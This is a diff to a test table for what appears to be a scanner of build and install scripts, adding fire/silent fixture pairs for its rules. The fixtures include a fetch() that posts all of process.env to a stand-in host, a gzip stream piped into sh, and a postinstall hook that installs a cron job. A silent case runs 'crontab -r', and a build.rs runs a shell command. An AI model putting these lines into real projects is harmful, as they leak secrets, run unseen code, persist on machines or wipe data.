@@ -119,6 +119,21 @@ const rows: readonly Row[] = [
     silent: { "CMakeLists.txt": `file(READ tests/a.img x OFFSET 256)\nfile(WRITE p.txt \${x})\n`, "tests/a.img": noise("a", 600) },
   },
   {
+    rule: "hardening/dead-probe", // behind -Xlinker, -M is the linker's
+    fires: { configure: "echo 'foo {' > conftest.c\ncc -Xlinker -M conftest.c\n" },
+    silent: { configure: "echo 'foo {' > conftest.c\ncc -M conftest.c\n" },
+  },
+  {
+    rule: "flow/secret-leaves", // not to this very machine
+    fires: { "a.js": 'fetch("https://a.example.org/x", { method: "POST", body: JSON.stringify({ env: process.env }) })\n' },
+    silent: { "a.js": 'fetch("http://localhost:8080/x", { method: "POST", body: JSON.stringify({ env: process.env }) })\n' },
+  },
+  {
+    rule: "flow/opaque-runs", // a folder that is called as the release is
+    fires: { "run.sh": "gzip -dc made-1.0.0/a.gz | sh\n", "made-1.0.0/a.gz": noise("a", 300) },
+    silent: { "run.sh": "gzip -dc made-1.0.0/a.gz | wc\n", "made-1.0.0/a.gz": noise("a", 300) },
+  },
+  {
     rule: "hardening/dead-probe", // what a preprocessor is given is compiled by nobody (mpc)
     fires: { configure: "echo 'foo {' > conftest.c\nfor cc in cc 'gcc -O'; do $cc -c conftest.c; done\n" },
     silent: { configure: "echo 'foo {' > conftest.c\nfor cpp in cpp 'gcc -E'; do $cpp conftest.c; done\n" },
@@ -138,7 +153,7 @@ const rows: readonly Row[] = [
   {
     rule: "capability/persists",
     fires: { "package.json": `{"name":"a","scripts":{"postinstall":"(crontab -l; echo '@daily a') | crontab -"}}\n` },
-    silent: { "package.json": '{"name":"a","scripts":{"postinstall":"crontab -l"}}\n' },
+    silent: { "package.json": '{"name":"a","scripts":{"postinstall":"crontab -l; crontab -r"}}\n' },
   },
   {
     rule: "flow/literal-runs",
@@ -231,7 +246,7 @@ const rows: readonly Row[] = [
     },
     silent: {
       "Cargo.toml": '[package]\nname = "a"\n',
-      "made.rs": 'fn main() { std::process::Command::new("sh").arg("-c").arg("id").status().unwrap(); }\n',
+      "vendor/b/build.rs": 'fn main() { std::process::Command::new("sh").arg("-c").arg("id").status().unwrap(); }\n',
     },
   },
   {
